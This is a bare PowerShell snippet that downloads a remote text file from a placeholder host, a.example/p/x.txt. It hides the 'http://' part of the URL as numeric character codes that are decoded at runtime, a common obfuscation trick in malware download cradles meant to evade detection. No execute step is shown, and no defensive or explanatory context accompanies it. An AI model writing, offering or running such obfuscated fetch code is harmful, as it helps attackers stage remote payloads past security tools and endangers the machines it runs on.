$wc = New-Object System.Net.WebClient
$wc.DownloadString(((('104u116;116u112u58;47u47'.Split('u;') | %{[char][int]$_}) -join '') + 'a.example/p/x.txt'))
